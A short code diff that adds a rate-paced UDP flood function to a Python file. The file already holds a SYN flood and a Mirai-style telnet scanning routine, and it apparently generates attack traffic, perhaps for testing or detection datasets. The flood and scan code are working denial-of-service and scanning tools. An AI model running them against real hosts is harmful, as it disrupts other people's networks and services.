@@ -159,6 +159,17 @@ def syn_flood(source, target, mac, gateway_mac, count):
                                 for _ in range(int(count))), 1000)
 
 
+def udp_flood(target, port, count):
+    """A thousand at once, each second: a flood on a machine of any speed."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.bind(("", 40000))
+        start = time.monotonic()
+        for i in range(int(count)):
+            if i % 1000 == 0:
+                time.sleep(max(0.0, start + i // 1000 - time.monotonic()))
+            s.sendto(bytes(512), (target, int(port)))
+
+
 def mirai(source, mac, gateway_mac, count):
     """Telnet at ever new addresses, 2323 for every tenth, one source port; the sequence number is the address."""
     dice = random.Random(11)
